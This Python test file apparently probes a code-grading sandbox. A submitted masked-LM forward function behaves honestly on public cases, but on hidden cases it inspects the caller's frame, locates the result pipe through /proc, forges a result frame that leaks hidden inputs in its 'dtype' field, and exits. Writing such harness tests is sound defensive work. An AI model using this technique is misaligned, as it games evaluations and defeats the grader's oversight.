"""Hidden case inputs read back from the candidate's report through the diagnosis.

judge.judge_reply withholds a hidden case's message, but grader/diagnosis.py's
_check_sentence("dtype") pastes reply["output"]["dtype"] (any text up to 200 characters,
grader/protocol.py _short_text) into the diagnosis sentence, which every candidate format shows.
A child that writes its own result frame (the channel is its own: the sandbox and protocol must
hold against any code) puts the hidden case's inputs there. Run with --unrestricted: today
wrong_answer with a diagnosis spelling out input_ids and w_emb of the first hidden case.
Should: no text of the submission's choosing from a hidden case in a candidate report.
"""
import json
import os
import struct
import sys

import torch


def _result_fd():
    for fd in os.listdir("/proc/self/fd"):
        fd = int(fd)
        if fd < 3:
            continue
        try:
            flags = int(open(f"/proc/self/fdinfo/{fd}").read().split("flags:")[1].split()[0], 8)
            if flags & 3 == 1 and os.readlink(f"/proc/self/fd/{fd}").startswith("pipe:"):
                return fd
        except Exception:
            pass


def mlm_forward_tied(input_ids, w_emb, pos_embed, blocks_weights, mask_indicator, num_heads):
    name = sys._getframe(1).f_locals["header"]["name"]
    out = honest(input_ids, w_emb, pos_embed, blocks_weights, mask_indicator, num_heads)
    if name.startswith("public"):
        return out
    secret = "ids=" + ",".join(str(int(i)) for i in input_ids.flatten()[:20]) + ";w=" + ",".join(f"{float(x):.4f}" for x in w_emb.flatten()[:8])
    header = {"kind": "result", "name": name, "seconds": 0.0,
              "output": {"type": "torch.Tensor", "plain": True, "layout": "torch.strided", "shape": list(out.shape), "dtype": secret[:200], "device": "cpu"},
              "tensors": []}
    data = json.dumps(header).encode()
    os.write(_result_fd(), struct.pack("<Q", len(data)) + data)
    os._exit(0)


import math

import torch


def layer_norm(x):
    mean = x.mean(dim=-1, keepdim=True)
    var = ((x - mean) ** 2).mean(dim=-1, keepdim=True)
    return (x - mean) / torch.sqrt(var + 1e-5)


def gelu(x):
    return 0.5 * x * (1.0 + torch.tanh(math.sqrt(2.0 / math.pi) * (x + 0.044715 * x**3)))


def softmax(scores):
    scores = scores - scores.amax(dim=-1, keepdim=True)
    e = torch.exp(scores)
    return e / e.sum(dim=-1, keepdim=True)


def attention(x, w_q, w_k, w_v, w_o, num_heads):
    n, t, d = x.shape
    d_head = d // num_heads
    q = (x @ w_q).view(n, t, num_heads, d_head).transpose(1, 2)
    k = (x @ w_k).view(n, t, num_heads, d_head).transpose(1, 2)
    v = (x @ w_v).view(n, t, num_heads, d_head).transpose(1, 2)
    scores = q @ k.transpose(-2, -1) / math.sqrt(d_head)
    out = softmax(scores) @ v
    return out.transpose(1, 2).reshape(n, t, d) @ w_o


def honest(input_ids, w_emb, pos_embed, blocks_weights, mask_indicator, num_heads):
    x = w_emb[input_ids] + pos_embed
    for w_q, w_k, w_v, w_o, w_mlp1, w_mlp2 in blocks_weights:
        x = x + attention(layer_norm(x), w_q, w_k, w_v, w_o, num_heads)
        x = x + gelu(layer_norm(x) @ w_mlp1) @ w_mlp2
    hidden = x[mask_indicator > 0.5]
    return hidden @ w_emb.T
